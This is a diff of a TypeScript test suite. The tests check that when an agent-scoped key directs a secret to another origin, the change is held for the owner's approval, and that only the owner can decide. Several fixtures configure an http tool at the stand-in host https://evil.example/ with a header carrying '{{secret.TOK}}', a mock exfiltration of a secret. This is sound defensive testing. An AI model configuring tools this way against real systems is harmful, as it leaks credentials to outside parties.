@@ -54,39 +54,67 @@ const refused = ({ title, op, input, rights }: Attempt, at: string): Case =>
     },
   })
 
+/** A write that is taken, with the warning that its runs wait for the owner. */
+const waits = ({ title, op, input, rights }: Attempt, at: string): Case =>
+  given({
+    op,
+    title,
+    as: 'scoped',
+    given: async (stage) => {
+      const who = await told({ ...(rights && { rights }) }, stage)
+      const secrets = [{ name: 'TOK', value: 'a value' }]
+      await stage.ask('characters.secrets.update', { char_id: who.ada, secrets })
+      return who
+    },
+    input: (who) => ({ char_id: who.ada, ...input(who) }),
+    answer: ({ warnings }) =>
+      expect(warnings).toContainEqual(
+        expect.objectContaining({ code: 'secret_origin', pointer: at }),
+      ),
+  })
+
 const attempts: Case[] = [
-  refused(
+  waits(
     {
-      title: 'a key that acts as the agent sends no secret to another origin',
+      title: 'a secret that a key acting as the agent sends elsewhere waits for the owner',
       op: 'tasks.update',
       input: () => ({ task_id: 'report', task: evil }),
     },
     '/api_url',
   ),
-  refused(
+  waits(
     {
-      title: 'nor may one with the right policy',
+      title: 'with the right policy it waits too',
       op: 'tasks.update',
       input: () => ({ task_id: 'report', task: evil }),
       rights: ['policy'],
     },
     '/api_url',
   ),
-  refused(
+  waits(
     {
-      title: 'a key with the right policy sends no secret through a tool of another origin',
+      title: 'through a tool of another origin it waits with the right policy too',
       op: 'tasks.update',
       input: () => ({
         task_id: 'report',
-        task: { tools: [{ name: 'x', type: 'http', config: { url: 'https://evil.example/' } }] },
+        task: {
+          runtime: 'prompt',
+          tools: [
+            {
+              name: 'x',
+              type: 'http',
+              config: { url: 'https://evil.example/', headers: { 'x-key': '{{secret.TOK}}' } },
+            },
+          ],
+        },
       }),
       rights: ['policy'],
     },
     '/tools',
   ),
-  refused(
+  waits(
     {
-      title: 'a new task of the agent sends no secret to another origin',
+      title: 'a new task of the agent that sends a secret elsewhere waits too',
       op: 'tasks.create',
       input: () => ({ task: { ...report, ...evil, task_id: 'other' } }),
     },
@@ -125,23 +153,41 @@ const attempts: Case[] = [
     },
     '/container_command',
   ),
-  refused(
+  waits(
     {
-      title: 'no secret goes to another origin through the heart',
+      title: 'through the heart it waits too',
       op: 'characters.update',
       input: () => ({ character: { heart: { tasks: [{ ...report, ...evil }] } } }),
     },
     '/heart/tasks/0/api_url',
   ),
-  refused(
+  waits(
     {
-      title: 'nor through the heart by a key with the right policy',
+      title: 'through the heart it waits with the right policy too',
       op: 'characters.update',
       input: () => ({ character: { heart: { tasks: [{ ...report, ...evil }] } } }),
       rights: ['policy'],
     },
     '/heart/tasks/0/api_url',
   ),
+]
+
+const named: Case[] = [
+  given({
+    op: 'tasks.update',
+    title: 'a secret whose origins the owner has named is sent by no agent elsewhere',
+    as: 'scoped',
+    given: async (stage) => {
+      const who = await told({ rights: ['policy'] }, stage)
+      const secrets = [{ name: 'TOK', value: 'a value', origins: ['https://reports.example'] }]
+      await stage.ask('characters.secrets.update', { char_id: who.ada, secrets })
+      return who
+    },
+    input: ({ ada }) => ({ char_id: ada, task_id: 'report', task: evil }),
+    refusal: 'owner_only',
+    error: ({ errors }) =>
+      expect(errors).toMatchObject([{ pointer: '/task/api_url', code: 'secret_origin' }]),
+  }),
 ]
 
 const allowed: Case[] = [
@@ -179,5 +225,48 @@ const allowed: Case[] = [
   }),
 ]
 
+/** A run that waits for the owner, since a key that acts as the agent wrote where a secret goes. */
+async function held(stage: Parameters<typeof scoped>[0]): Promise<{ approval_id: string }> {
+  const who = await told({}, stage)
+  const secrets = [{ name: 'TOK', value: 'a value' }]
+  await stage.ask('characters.secrets.update', { char_id: who.ada, secrets })
+  const subject = { char_id: who.ada, task_id: 'report' }
+  await stage.world.ask('tasks.update', { ...subject, task: evil }, stage.extra.scoped)
+  const run = await stage.ask('tasks.run', { ...subject, wait_seconds: 60 })
+  return { approval_id: run.approval_id }
+}
+
+const decided: Case[] = [
+  given({
+    op: 'approvals.get',
+    title: 'an agent reads that a secret of its own waits for the owner',
+    as: 'scoped',
+    given: held,
+    input: ({ approval_id }) => ({ approval_id }),
+    answer: (answer) =>
+      expect(answer).toMatchObject({
+        kind: 'secret_origin',
+        approvers: [],
+        secret_origins: [{ secret: 'TOK', origin: 'https://evil.example' }],
+      }),
+  }),
+  given({
+    op: 'approvals.decide',
+    title: 'where a secret goes is decided by no key that acts as the agent',
+    as: 'scoped',
+    given: held,
+    input: ({ approval_id }) => ({ approval_id, decision: 'approve' }),
+    refusal: 'owner_only',
+  }),
+  given({
+    op: 'approvals.decide',
+    title: 'the owner of a secret decides where it goes',
+    as: 'owner',
+    given: held,
+    input: ({ approval_id }) => ({ approval_id, decision: 'reject', reason: 'Not ours' }),
+    answer: (answer) => expect(answer).toMatchObject({ state: 'rejected' }),
+  }),
+]
+
 /** Where the secrets of an agent go, which no key that acts as one says. */
-export const secretPlaces: readonly Case[] = [...attempts, ...allowed]
+export const secretPlaces: readonly Case[] = [...attempts, ...named, ...allowed, ...decided]
